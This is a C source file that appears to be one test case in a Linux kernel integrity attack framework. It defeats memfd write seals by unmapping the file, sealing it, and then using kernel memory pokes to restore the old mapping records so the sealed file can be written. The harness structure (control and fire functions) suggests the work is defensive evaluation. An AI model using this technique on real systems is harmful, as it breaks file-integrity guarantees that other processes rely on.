// SPDX-License-Identifier: GPL-2.0-only
#include "own_area.h"

#include <linux/fcntl.h>
#include <linux/memfd.h>

ATTACK("cred_integrity", "area_put_back", "cred_integrity: an area is not as it was mapped",
       "The program unmaps a memfd that it could write to, gives it away with the file seal that "
       "nobody writes to it any more, and has the kernel find its old mapping again.",
       "What a mapping says is believed only while its sealed record says the same, and the "
       "record says nothing any more when the mapping is let go.",
       "What others trust, because nobody can change it, is changed.");

static const char *const members[] = { "area.start", "area.end",         "area.file",
				       "area.cache", "area.page_offset", "area.space" };
static const char *const narrow_members[] = { "area.flags", "area.protection",
					      "area.max_protection" };
#define MEMBERS (sizeof(members) / sizeof(members[0]))
#define NARROW_MEMBERS (sizeof(narrow_members) / sizeof(narrow_members[0]))

/* What a mapping says. */
struct sayings {
	uint64_t words[MEMBERS];
	uint32_t narrow[NARROW_MEMBERS];
};

static void remember(struct sayings *sayings, uint64_t area)
{
	for (unsigned long i = 0; i < MEMBERS; i++)
		sayings->words[i] = peek(area + member(members[i]));
	for (unsigned long i = 0; i < NARROW_MEMBERS; i++)
		sayings->narrow[i] = (uint32_t)peek(area + member(narrow_members[i]));
}

static void put_back(const struct sayings *sayings, uint64_t area)
{
	for (unsigned long i = 0; i < MEMBERS; i++)
		poke(area + member(members[i]), sayings->words[i]);
	for (unsigned long i = 0; i < NARROW_MEMBERS; i++)
		poke32(area + member(narrow_members[i]), sayings->narrow[i]);
}

static long make_file(void)
{
	const long file = call2(__NR_memfd_create, (long)"trusted", MFD_ALLOW_SEALING);

	call2(__NR_ftruncate, file, 4096);
	return file;
}

static volatile char *map(long file)
{
	return (volatile char *)call6(__NR_mmap, 0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file,
				      0);
}

/* With the seal nobody maps it for writing. */
static bool control(void)
{
	const long file = make_file();

	return is_ordinary() && call3(__NR_fcntl, file, F_ADD_SEALS, F_SEAL_WRITE) == 0 &&
	       (long)map(file) == -EPERM;
}

static bool fire(void)
{
	const long file = make_file();
	volatile char *const page = map(file);
	const uint64_t task = own_task(), area = own_area(task, page, 0);
	const uint64_t space = peek(task + member("task.space"));
	struct sayings sayings;

	if (area == 0)
		return false;
	remember(&sayings, area);
	call2(__NR_munmap, (long)page, 4096);
	if (call3(__NR_fcntl, file, F_ADD_SEALS, F_SEAL_WRITE) != 0)
		return false;
	put_back(&sayings, area);
	poke(space + member("address_space.cached_area"), area);
	page[0] = 'X';
	return is_changed(file);
}

static void victim(void)
{
	victim_waits();
}
